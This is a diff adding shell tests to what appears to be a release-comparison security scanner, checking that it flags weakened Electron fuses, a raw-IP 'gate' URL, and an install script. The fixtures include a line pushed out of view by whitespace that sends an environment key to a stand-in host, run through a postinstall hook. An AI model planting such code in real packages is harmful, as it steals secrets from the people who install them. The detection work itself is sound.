@@ -45,4 +45,39 @@ assay diff --rules broken.yar one two
 is 'rules that do not compile: status 2' "$status" 2
 assay intel remove rules
 
+# Programs: what their texts name, and fuses behind the image, as Electron has them somewhere in it.
+release() { # folder version fuses; what follows goes to the program
+    local to=$1
+    rm -rf "$1" && mkdir "$1"
+    "$make/makepe" "$to/app.exe" exe import='kernel32.dll!CreateFileW' time=1600000000 version="$2" product=App original=app.exe text=https://maker.example/x "${@:4}"
+    printf 'dL7pKGdnNz796PbbjQWNKmHXBZaB9tsX\1\11%s' "$3" >>"$to/app.exe"
+    printf '{"name":"app","version":"%s"}\n' "$2" >"$to/package.json"
+}
+release one 1.2.3 011011011
+release two 1.2.4 011011011
+assay diff -f jsonl one two
+is 'an honest step' "$(jq -r 'select(.type == "finding") | .rule' <<<"$out")" ''
+release two 1.2.4 111001011
+assay diff -f jsonl one two
+is 'fuses that weaken' "$status $(told diff_electron)" '1 medium:firm app.exe'
+is 'are named' "$(jq -r 'select(.rule == "diff_electron").details | keys_unsorted | join(" ")' <<<"$out")" 'RunAsNode EnableEmbeddedAsarIntegrityValidation'
+assay diff -f jsonl two one
+is 'the other way round they are a change' \
+    "$(told diff_electron) $(jq -r 'select(.type == "member").changes[] | select(.group == "fuses") | "\(.what):\(.before)>\(.after)"' <<<"$out" | paste -sd' ')" \
+    ' RunAsNode:on>off EnableEmbeddedAsarIntegrityValidation:off>on'
+release two 1.2.4 011011011 text=http://5.188.206.1/gate
+assay diff -f jsonl one two
+is 'an address by its number' "$status $(told diff_texts)" '1 medium:firm app.exe'
+release two 1.2.4 011011011 text=https://docs.maker.example/new
+assay diff -f jsonl one two
+is 'another page of the same maker' "$status $(told diff_texts)" '0 '
+
+# Scripts: what was pushed out of sight, and what runs when the package is installed.
+printf 'start();\n' >one/main.js
+printf 'start();%300s\n' 'fetch("http://x/"+process.env.KEY);' >two/main.js
+printf '{"name":"app","version":"1.2.4","scripts":{"postinstall":"node main.js"}}\n' >two/package.json
+assay diff -f jsonl one two
+is 'code out of sight, and a command' "$status $(told diff_script)" '1 high:firm main.js;medium:firm package.json'
+assay diff one two
+like 'text tells them' "$out" 'hiding: fetch'
 finish
